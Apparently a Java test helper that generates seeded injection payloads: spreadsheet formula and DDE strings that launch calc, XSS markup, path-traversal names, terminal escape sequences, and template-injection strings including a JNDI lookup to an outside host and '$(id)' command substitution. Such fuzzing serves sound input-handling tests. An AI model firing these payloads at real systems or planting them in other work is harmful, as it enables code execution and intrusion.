package dev.shortlist.night;

import java.util.ArrayList;
import java.util.List;
import java.util.Random;

/** Texts that spreadsheets, browsers, file systems, terminals and templates take for orders, made from a seed. */
final class Payloads {
    private static final List<String> STARTS =
            List.of("=", "+", "-", "@", "\t=", "\r=", "\uff1d", "\uff0b", "\uff20", " =", "'=", "\"=", ";=", "\u00a0=");
    private static final List<String> FORMULAS = List.of(
            "1+1",
            "cmd|'/C calc'!A0",
            "HYPERLINK(\"https://example.org\",\"x\")",
            "SUM(A1:A9)",
            "DDE(\"cmd\",\"/C calc\",\"x\")",
            "WEBSERVICE(\"https://example.org\")",
            "IMPORTXML(\"https://example.org\",\"//a\")",
            "[x.xlsx]Sheet1!A1",
            "_xlfn.ENCODEURL(A1)");
    private static final List<String> BREAKS = List.of(
            "",
            "\">",
            "'>",
            "-->",
            "]]>",
            "</p>",
            "</td></tr></table>",
            "</style>",
            "</title>",
            "</textarea>",
            "` ",
            "\u2028");
    private static final List<String> MARKUP = List.of(
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "<svg/onload=alert(1)>",
            "<svg><a xlink:href=x>",
            "<iframe src=//example.org>",
            "<object data=x>",
            "<b onclick=\"alert(1)\">b</b>",
            " onmouseover=alert(1) x=\"",
            "&lt;b&gt;&#60;i&#62;&amp;amp;",
            "<!-- ",
            "<![CDATA[<b>]]>",
            "<?xml version=\"1.0\"?>",
            "<base href=//example.org>",
            "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
            "<meta http-equiv=refresh content=0>",
            "javascript:alert(1)");
    private static final List<String> PATHS = List.of(
            "../",
            "..\\",
            "/",
            "C:\\",
            "\\\\host\\share\\",
            "CON",
            "NUL",
            "aux.txt",
            "COM1",
            ".",
            "~",
            "%2e%2e%2f",
            "file:///",
            "\u202egnp.",
            "a:b",
            "*?|");
    private static final List<String> TERMINAL = List.of(
            "\u001b[2J",
            "\u001b[31m",
            "\u001b]8;;https://example.org\u0007x\u001b]8;;\u0007",
            "\u001b]0;title\u0007",
            "\u0007",
            "\u0008\u0008",
            "\u009b31m",
            "\u009d0;x\u009c",
            "\u202e",
            "\u2066x\u2069",
            "\u200f",
            "\u0085",
            "\u007f",
            "\u001bP1$q\u001b\\",
            "\n2026-01-01 ERROR forged");
    private static final List<String> TEMPLATES = List.of(
            "${7*7}",
            "#{7*7}",
            "{{7*7}}",
            "@if(true)",
            "@import java.util.*",
            "!{var x = 1;}",
            "$unsafe{x}",
            "%n%s%n",
            "%1$s",
            "{0}",
            "${jndi:ldap://example.org/a}",
            "${${lower:j}ndi:x}",
            "${env:PATH}",
            "@endif",
            "<%= 7*7 %>",
            "$(id)",
            "`id`",
            "\\u0041",
            "_x0041_");

    private Payloads() {}

    /** So many of each kind, the kinds in turn. */
    static List<String> of(int each, long seed) {
        Random random = new Random(seed);
        List<String> payloads = new ArrayList<>();
        for (int i = 0; i < each; i++) {
            String number = Integer.toString(i);
            payloads.add(one(STARTS, random) + one(FORMULAS, random) + "+" + number);
            payloads.add(one(BREAKS, random) + one(MARKUP, random) + one(MARKUP, random) + number);
            payloads.add(one(PATHS, random).repeat(1 + random.nextInt(random.nextInt(10) == 0 ? 90 : 4))
                    + one(PATHS, random)
                    + number);
            payloads.add(one(TERMINAL, random) + "x" + one(TERMINAL, random) + number);
            payloads.add(one(TEMPLATES, random) + one(TEMPLATES, random) + number);
        }
        return payloads;
    }

    private static String one(List<String> of, Random random) {
        return of.get(random.nextInt(of.size()));
    }
}
